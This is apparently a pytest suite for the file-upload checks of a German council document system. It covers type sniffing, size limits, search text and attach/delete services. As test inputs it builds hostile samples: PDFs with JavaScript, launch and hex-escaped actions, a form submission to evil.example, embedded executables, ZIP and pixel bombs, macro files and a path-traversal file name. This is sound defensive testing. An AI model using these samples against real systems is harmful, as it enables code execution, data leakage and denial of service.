"""Uploads of the council office: the type by content, the size limit, hostile PDFs (encrypted, JavaScript,
automatic and launch actions, embedded files, broken), hostile office files (ZIP bomb, macros), the text
for the search, and the services that attach and delete files."""

from __future__ import annotations

import hashlib
import io
import zipfile
from pathlib import Path
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import override_settings
from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from kitu.core.errors import DomainError, NotFound, PermissionDenied
from kitu.core.models import AuditEntry
from kitu.council import files as council_files
from kitu.council.files import DOCX, JPEG, ODT, PDF, PNG, XLSX, check_upload
from kitu.council.models import File, FileRole, Paper
from kitu.council.services.files import file_attach, file_delete

from .factories import make_agenda_item, make_file, make_paper, minimal_pdf

pytestmark = pytest.mark.django_db


def upload(content: bytes, name: str = "vorlage.pdf", content_type: str = "application/pdf") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type=content_type)


def pdf_from_objects(objects: list[bytes]) -> bytes:
    """A PDF with exactly these objects (1 is the catalog) and a correct cross-reference table."""
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{offset:010d} 00000 n \n".encode() for offset in offsets)
    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    return bytes(out)


def pdf_with_catalog(extra: bytes) -> bytes:
    stream = b"BT /F1 12 Tf 72 720 Td (Hallo) Tj ET"
    return pdf_from_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R " + extra + b" >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> >> >>",
            b"<< /Length " + str(len(stream)).encode() + b" >>\nstream\n" + stream + b"\nendstream",
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        ]
    )


def writer_bytes(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def good_writer(text: str = "Beschlussvorlage") -> PdfWriter:
    return PdfWriter(clone_from=PdfReader(io.BytesIO(minimal_pdf(text))))


def zip_bytes(entries: list[tuple[str, bytes]], *, stored_first: bool = False) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for index, (name, data) in enumerate(entries):
            method = zipfile.ZIP_STORED if stored_first and index == 0 else zipfile.ZIP_DEFLATED
            archive.writestr(zipfile.ZipInfo(name), data, compress_type=method)
    return out.getvalue()


def content_types(main: bytes) -> bytes:
    return (
        b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        b'<Override PartName="/word/document.xml" ContentType="' + main + b'"/></Types>'
    )


def docx_bytes() -> bytes:
    return zip_bytes([("[Content_Types].xml", content_types(council_files.DOCX_MAIN)), ("word/document.xml", b"<w/>")])


def image_bytes(kind: str) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (4, 4), "red").save(out, kind)
    return out.getvalue()


def refused(content: bytes, name: str = "vorlage.pdf") -> str:
    with pytest.raises(DomainError) as info:
        check_upload(upload(content, name))
    assert info.value.field == "file"
    return info.value.message


# --- check_upload: good files -------------------------------------------------------------------------------


def test_good_pdf_is_checked_hashed_and_its_text_extracted() -> None:
    content = minimal_pdf("Radweg Noeschenroeder Strasse")
    checked = check_upload(upload(content, "Anlage 1 Radweg.PDF"))
    assert checked.mime_type == PDF
    assert checked.file_name == "Anlage 1 Radweg.pdf"
    assert checked.size == len(content)
    assert checked.content == content
    assert checked.sha512 == hashlib.sha512(content).hexdigest()
    assert checked.text == "Radweg Noeschenroeder Strasse"


def test_types_are_sniffed_from_the_content_not_the_name_or_browser_type() -> None:
    cases = [
        (minimal_pdf(), "bericht.docx", "text/plain", PDF, "bericht.pdf"),  # a PDF renamed .docx stays a PDF
        (docx_bytes(), "brief.pdf", "application/pdf", DOCX, "brief.docx"),
        (image_bytes("PNG"), "karte.jpg", "image/jpeg", PNG, "karte.png"),
        (image_bytes("JPEG"), "foto", "application/octet-stream", JPEG, "foto.jpg"),
        (
            zip_bytes([("mimetype", ODT.encode()), ("content.xml", b"<office/>")], stored_first=True),
            "text.odt",
            "",
            ODT,
            "text.odt",
        ),
        (
            zip_bytes([("[Content_Types].xml", content_types(council_files.XLSX_MAIN)), ("xl/workbook.xml", b"<w/>")]),
            "haushalt.xlsx",
            "",
            XLSX,
            "haushalt.xlsx",
        ),
    ]
    for content, name, browser_type, mime_type, file_name in cases:
        checked = check_upload(upload(content, name, browser_type))
        assert (checked.mime_type, checked.file_name) == (mime_type, file_name), name
        assert checked.text == ("Beschlussvorlage" if mime_type == PDF else "")


def test_a_real_xlsx_workbook_is_recognised() -> None:
    from openpyxl import Workbook

    out = io.BytesIO()
    Workbook().save(out)
    assert check_upload(upload(out.getvalue(), "t.xlsx")).mime_type == XLSX


def test_file_names_lose_directories_and_unsafe_characters() -> None:
    checked = check_upload(upload(minimal_pdf(), "..\\..\\etc/pass<wd>\x00.exe"))
    assert checked.file_name == "pass_wd.pdf"
    assert check_upload(upload(minimal_pdf(), "...")).file_name == "Datei.pdf"


# --- check_upload: refused -----------------------------------------------------------------------------------


def test_unknown_types_are_refused_naming_the_allowed_ones() -> None:
    for content in (b"MZ\x90\x00 a windows program", b"<html><script>alert(1)</script></html>", b"GIF89a...."):
        message = refused(content)
        assert "nicht erlaubt" in message
        assert "PDF, ODT" in message and "PNG und JPEG" in message


def test_empty_file_and_no_file_are_refused() -> None:
    assert refused(b"") == "Die Datei ist leer."
    with pytest.raises(DomainError) as info:
        check_upload(None)
    assert info.value.field == "file"


@override_settings(KITU_COUNCIL_MAX_UPLOAD_BYTES=1000)
def test_a_file_over_the_size_limit_is_refused() -> None:
    content = minimal_pdf("x" * 1200)
    assert len(content) > 1000
    assert "zu groß" in refused(content)
    small = minimal_pdf("klein")
    assert len(small) <= 1000
    assert check_upload(upload(small)).size == len(small)


@override_settings(KITU_COUNCIL_MAX_UPLOAD_BYTES=1000)
def test_the_size_limit_holds_when_the_declared_size_lies() -> None:
    class Lying(io.BytesIO):
        name = "x.pdf"
        size = 10

    with pytest.raises(DomainError, match="zu groß"):
        check_upload(Lying(minimal_pdf("y" * 2000)))


def test_default_size_limit_is_20_mib() -> None:
    assert council_files.max_upload_bytes() == 20 * 1024 * 1024


def test_broken_pdfs_are_refused_with_a_clear_message() -> None:
    good = minimal_pdf()
    for content in (b"%PDF-1.4\nnothing else", b"%PDF-" + bytes(range(256)) * 10, good[: len(good) // 3]):
        assert "beschädigt" in refused(content)


def test_any_error_inside_pypdf_refuses_the_file(monkeypatch: pytest.MonkeyPatch) -> None:
    import pypdf

    def explode(*args: Any, **kwargs: Any) -> None:
        raise RecursionError("deep")

    monkeypatch.setattr(pypdf, "PdfReader", explode)
    assert "beschädigt" in refused(minimal_pdf())


def test_encrypted_pdf_is_refused() -> None:
    writer = good_writer()
    writer.encrypt(user_password="geheim", owner_password="chef")
    assert "verschlüsselt" in refused(writer_bytes(writer))
    writer = good_writer()
    writer.encrypt(user_password="", owner_password="chef")  # opens without a password, still encrypted
    assert "verschlüsselt" in refused(writer_bytes(writer))


def test_pdf_with_document_javascript_is_refused() -> None:
    writer = good_writer()
    writer.add_open_action(JavaScript("app.alert('hallo');"))
    assert "JavaScript" in refused(writer_bytes(writer))


def test_pdf_with_javascript_open_action_is_refused() -> None:
    writer = good_writer()
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")}
    )
    assert "JavaScript" in refused(writer_bytes(writer))


@pytest.mark.parametrize(
    "catalog",
    [
        b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>",
        b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>",  # names written with hex escapes
        b"/OpenAction << /S /Launch /F (C:\\\\Windows\\\\calc.exe) >>",
        b"/AA << /WC << /S /GoTo /D [3 0 R /Fit] >> >>",
        b"/OpenAction << /S /SubmitForm /F (https://evil.example/) >>",
        b"/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (x) >>] >> >>",
    ],
)
def test_pdf_actions_that_run_something_are_refused(catalog: bytes) -> None:
    assert "JavaScript oder Aktionen" in refused(pdf_with_catalog(catalog))


def test_pdf_open_action_that_only_shows_the_first_page_is_fine() -> None:
    checked = check_upload(upload(pdf_with_catalog(b"/OpenAction [3 0 R /Fit]")))
    assert checked.text == "Hallo"


def test_pdf_with_javascript_on_a_page_annotation_is_refused() -> None:
    writer = good_writer()
    annotation = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/A"): DictionaryObject(
                {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("x")}
            ),
        }
    )
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])
    assert "JavaScript" in refused(writer_bytes(writer))


def test_pdf_with_embedded_file_is_refused() -> None:
    writer = good_writer()
    writer.add_attachment("rechnung.exe", b"MZ\x90\x00")
    assert "eingebettete Dateien" in refused(writer_bytes(writer))


def test_zip_bomb_office_file_is_refused() -> None:
    bomb = zip_bytes(
        [("[Content_Types].xml", content_types(council_files.DOCX_MAIN)), ("word/document.xml", b"\0" * 20_000_000)]
    )
    assert len(bomb) < 100_000
    assert "ZIP-Bombe" in refused(bomb, "bericht.docx")


def test_office_files_with_macros_are_refused() -> None:
    docm = zip_bytes(
        [
            ("[Content_Types].xml", content_types(council_files.DOCX_MAIN)),
            ("word/document.xml", b"<w/>"),
            ("word/vbaProject.bin", b"macro"),
        ]
    )
    assert "Makros" in refused(docm, "bericht.docx")
    odt = zip_bytes([("mimetype", ODT.encode()), ("Basic/Standard/Module1.xml", b"<m/>")], stored_first=True)
    assert "Makros" in refused(odt, "text.odt")


def test_images_must_be_whole_and_of_bounded_size() -> None:
    png = image_bytes("PNG")
    assert "beschädigt" in refused(png[:40], "karte.png")
    assert "beschädigt" in refused(b"\x89PNG\r\n\x1a\n<html><script>alert(1)</script></html>", "x.png")
    assert "beschädigt" in refused(image_bytes("JPEG")[:3] + b"<html>", "x.jpg")
    out = io.BytesIO()
    Image.new("1", (12_000, 12_000)).save(out, "PNG")  # 144 million pixels in a few kilobytes
    assert len(out.getvalue()) < 100_000
    assert "zu groß" in refused(out.getvalue(), "bombe.png")


def test_other_zip_archives_and_damaged_ones_are_refused() -> None:
    assert "kein Text- oder Tabellendokument" in refused(zip_bytes([("a.txt", b"hallo")]), "a.docx")
    macro_type = b"application/vnd.ms-word.document.macroEnabled.main+xml"
    assert "kein Text- oder Tabellendokument" in refused(
        zip_bytes([("[Content_Types].xml", content_types(macro_type))])
    )
    assert "beschädigt" in refused(b"PK\x03\x04" + b"\x00" * 100, "a.docx")


# --- text limits ---------------------------------------------------------------------------------------------


def two_page_pdf() -> bytes:
    writer = good_writer("Seite eins")
    writer.append(PdfReader(io.BytesIO(minimal_pdf("Seite zwei"))))
    return writer_bytes(writer)


def test_text_of_all_pages_and_its_limits(monkeypatch: pytest.MonkeyPatch) -> None:
    content = two_page_pdf()
    assert check_upload(upload(content)).text == "Seite eins\nSeite zwei"
    monkeypatch.setattr(council_files, "PDF_MAX_PAGES", 1)
    assert check_upload(upload(content)).text == "Seite eins"
    monkeypatch.setattr(council_files, "PDF_MAX_PAGES", 1000)
    monkeypatch.setattr(council_files, "MAX_TEXT_CHARS", 7)
    assert check_upload(upload(content)).text == "Seite e"
    monkeypatch.setattr(council_files, "MAX_TEXT_CHARS", 200_000)
    monkeypatch.setattr(council_files, "PDF_TEXT_SECONDS", -1.0)
    checked = check_upload(upload(content))  # out of time: the file is taken, without text
    assert (checked.mime_type, checked.text) == (PDF, "")


def test_a_page_whose_text_fails_adds_nothing(monkeypatch: pytest.MonkeyPatch) -> None:
    from pypdf import PageObject

    def fail(self: Any, *args: Any, **kwargs: Any) -> str:
        raise KeyError("/Font")

    monkeypatch.setattr(PageObject, "extract_text", fail)
    assert check_upload(upload(minimal_pdf())).text == ""


def test_control_characters_leave_the_text() -> None:
    checked = check_upload(upload(pdf_with_catalog(b"")))
    assert "\x00" not in checked.text
    content = minimal_pdf("a\\000b")  # a NUL byte in the text layer
    assert "\x00" not in check_upload(upload(content)).text


# --- services ------------------------------------------------------------------------------------------------


def stored_names() -> set[str]:
    root = Path(File._meta.get_field("content").storage.location) / "council"  # type: ignore[attr-defined]
    return {p.name for p in root.iterdir()} if root.exists() else set()


def test_attach_stores_the_file_and_makes_its_text_searchable(
    council_world: dict[str, Any], django_capture_on_commit_callbacks: Any
) -> None:
    office, paper = council_world["users"]["council_office"], council_world["draft_paper"]
    file = file_attach(
        actor=office,
        body=council_world["body"],
        upload=upload(minimal_pdf("Hebesatz Grundsteuer"), "Haushalt 2027.pdf"),
        role=FileRole.MAIN,
        paper=paper,
    )
    file.refresh_from_db()
    assert (file.name, file.file_name, file.mime_type, file.paper_id, file.body_id) == (
        "Haushalt 2027",
        "Haushalt 2027.pdf",
        PDF,
        paper.pk,
        council_world["body"].pk,
    )
    assert file.content.read() == minimal_pdf("Hebesatz Grundsteuer")
    assert file.license == council_world["body"].license
    paper.refresh_from_db()
    assert paper.search_text == "BV/0150/2026\nHaushaltssatzung 2027\nHebesatz Grundsteuer"
    entry = AuditEntry.objects.get(object_type="council.File", object_id=str(file.pk))
    assert entry.action == "create" and entry.actor == office

    with django_capture_on_commit_callbacks(execute=True):
        file_delete(actor=office, file=file)
    file.refresh_from_db()
    assert file.deleted and file.text == "" and file.content.name == ""
    paper.refresh_from_db()
    assert "Hebesatz" not in paper.search_text
    assert AuditEntry.objects.filter(object_type="council.File", object_id=str(file.pk), action="delete").exists()
    assert File.objects.filter(pk=file.pk).exists()  # the tombstone stays
    with pytest.raises(NotFound):
        file_delete(actor=office, file=file)


def test_delete_removes_the_content_from_the_storage(
    council_world: dict[str, Any], django_capture_on_commit_callbacks: Any
) -> None:
    office = council_world["users"]["council_office"]
    file = file_attach(
        actor=office, body=council_world["body"], upload=upload(minimal_pdf()), role="auxiliary",
        meeting=council_world["invited"],
    )  # fmt: skip
    stored = file.content.name
    storage = file.content.storage
    assert storage.exists(stored)
    with django_capture_on_commit_callbacks(execute=True):
        file_delete(actor=office, file=file)
    assert not storage.exists(stored)


@pytest.mark.parametrize(
    "content",
    [
        b"MZ not allowed",
        b"%PDF-1.4 broken",
        pdf_with_catalog(b"/OpenAction << /S /JavaScript /JS (x) >>"),
    ],
)
def test_refused_upload_stores_nothing(council_world: dict[str, Any], content: bytes) -> None:
    paper = council_world["draft_paper"]
    before = (File.objects.count(), AuditEntry.objects.count(), stored_names())
    with pytest.raises(DomainError) as info:
        file_attach(
            actor=council_world["users"]["council_office"],
            body=council_world["body"],
            upload=upload(content),
            role=FileRole.MAIN,
            paper=paper,
        )
    assert info.value.field == "file"
    assert (File.objects.count(), AuditEntry.objects.count(), stored_names()) == before
    assert Paper.objects.get(pk=paper.pk).search_text == paper.search_text


def test_only_the_towns_council_office_attaches_and_deletes(council_world: dict[str, Any]) -> None:
    users = council_world["users"]
    zeitz_office = _zeitz_office(council_world)
    file = council_world["public_file"]
    for key, user in {**users, "zeitz_office": zeitz_office}.items():
        if key == "council_office":
            continue
        with pytest.raises(PermissionDenied):
            file_attach(
                actor=user,
                body=council_world["body"],
                upload=upload(minimal_pdf()),
                role=FileRole.AUXILIARY,
                paper=council_world["draft_paper"],
            )
        with pytest.raises(PermissionDenied):
            file_delete(actor=user, file=file)
    from django.contrib.auth.models import AnonymousUser

    with pytest.raises(PermissionDenied):
        file_delete(actor=AnonymousUser(), file=file)
    file.refresh_from_db()
    assert not file.deleted and file.content.name
    assert File.objects.filter(paper=council_world["draft_paper"]).count() == 0


def _zeitz_office(council_world: dict[str, Any]) -> Any:
    from conftest import make_user
    from kitu.accounts.roles import Role

    return make_user("ratsbuero.zeitz@test.example", [(council_world["zeitz"].organisation, Role.COUNCIL_OFFICE)])


def test_parents_of_another_town_or_deleted_ones_are_not_found(council_world: dict[str, Any]) -> None:
    office = council_world["users"]["council_office"]
    zeitz_paper = make_paper(council_world["zeitz_body"], "BV/0001/2026", "Zeitzer Vorlage")
    gone = make_paper(council_world["body"], "BV/0999/2026", "Gelöscht", deleted=True)
    for paper in (zeitz_paper, gone):
        with pytest.raises(NotFound) as info:
            file_attach(
                actor=office, body=council_world["body"], upload=upload(minimal_pdf()), role="main", paper=paper
            )
        assert info.value.field == "paper"
    # The council office of Zeitz cannot attach to a Wernigerode paper by naming its own body.
    zeitz_office = _zeitz_office(council_world)
    with pytest.raises(NotFound):
        file_attach(
            actor=zeitz_office,
            body=council_world["zeitz_body"],
            upload=upload(minimal_pdf()),
            role="main",
            paper=council_world["draft_paper"],
        )
    assert File.objects.filter(paper__in=[zeitz_paper, gone, council_world["draft_paper"]]).count() == 0


def test_one_parent_a_fitting_role_and_one_main_file(council_world: dict[str, Any]) -> None:
    office, body = council_world["users"]["council_office"], council_world["body"]
    paper, meeting = council_world["draft_paper"], council_world["scheduled"]
    cases: list[tuple[dict[str, Any], str, str]] = [
        ({}, "main", "parent"),
        ({"paper": paper, "meeting": meeting}, "main", "parent"),
        ({"paper": paper}, "invitation", "role"),
        ({"paper": paper}, "nonsense", "role"),
        ({"meeting": meeting}, "main", "role"),
        ({"paper": council_world["public_paper"]}, "main", "role"),  # it has a main file already
    ]
    count = File.objects.count()
    for parents, role, field in cases:
        with pytest.raises(DomainError) as info:
            file_attach(actor=office, body=body, upload=upload(minimal_pdf()), role=role, **parents)
        assert info.value.field == field, (parents, role)
    with pytest.raises(DomainError) as info:
        file_attach(actor=office, body=body, upload=upload(minimal_pdf()), role="main", name="x" * 301, paper=paper)
    assert info.value.field == "name"
    assert File.objects.count() == count
    item = make_agenda_item(meeting, 1, "Haushalt")
    file = file_attach(actor=office, body=body, upload=upload(image_bytes("PNG"), "plan.png"), role="resolution",
                       name="  Beschluss  ", agenda_item=item)  # fmt: skip
    assert (file.name, file.mime_type, file.agenda_item_id) == ("Beschluss", PNG, item.pk)


# --- robustness ----------------------------------------------------------------------------------------------


def test_mangled_pdfs_are_taken_or_refused_never_an_error() -> None:
    """Bytes of a real (compressed, multi-page) PDF changed at random: every result is a checked file or a
    DomainError on the file, quickly."""
    import random
    import time

    writer = good_writer("Hallo Welt")
    for number in range(3):
        writer.append(PdfReader(io.BytesIO(minimal_pdf(f"Seite {number}"))))
    for page in writer.pages:
        page.compress_content_streams()
    base = writer_bytes(writer)
    rng = random.Random(19)
    outcomes = set()
    for _ in range(300):
        data = bytearray(base)
        for _ in range(rng.randint(1, 20)):
            pos = rng.randrange(5, len(data))
            roll = rng.random()
            if roll < 0.5:
                data[pos] = rng.randrange(256)
            elif roll < 0.75:
                del data[pos : pos + rng.randint(1, 50)]
            else:
                data[pos:pos] = rng.choice([b"[", b"<<", b"/JS", b" 0 R", b"((", b"\x00" * 10, b"9999999999"])
        started = time.monotonic()
        try:
            check_upload(upload(bytes(data)))
            outcomes.add("taken")
        except DomainError as exc:
            assert exc.field == "file"
            outcomes.add("refused")
        assert time.monotonic() - started < 5
    assert outcomes == {"taken", "refused"}


@pytest.mark.parametrize("nesting", [b"[" * 100_000 + b"]" * 100_000, b"<</A " * 50_000 + b">>" * 50_000])
def test_deeply_nested_pdf_objects_are_refused(nesting: bytes) -> None:
    good = pdf_from_objects(
        [b"<< /Type /Catalog /Pages 2 0 R /X 3 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>", nesting]
    )
    assert "beschädigt" in refused(good)


def test_a_long_search_text_fits_the_full_text_index(council_world: dict[str, Any]) -> None:
    """PostgreSQL's tsvector holds at most 1 MB: the longest search text, of unique words, still indexes."""
    import random

    from kitu.council.search import SEARCH_TEXT_MAX, refresh_search_text

    rng = random.Random(5)
    words = " ".join("".join(rng.choice("abcdefghijklmnopqrstuvwxyzäöü") for _ in range(7)) for _ in range(60_000))
    paper = council_world["draft_paper"]
    for text in (words, words[::-1]):
        file = make_file(paper=paper, role=FileRole.AUXILIARY)
        File.objects.filter(pk=file.pk).update(text=text[: council_files.MAX_TEXT_CHARS])
    refresh_search_text(paper)
    assert len(Paper.objects.get(pk=paper.pk).search_text) == SEARCH_TEXT_MAX
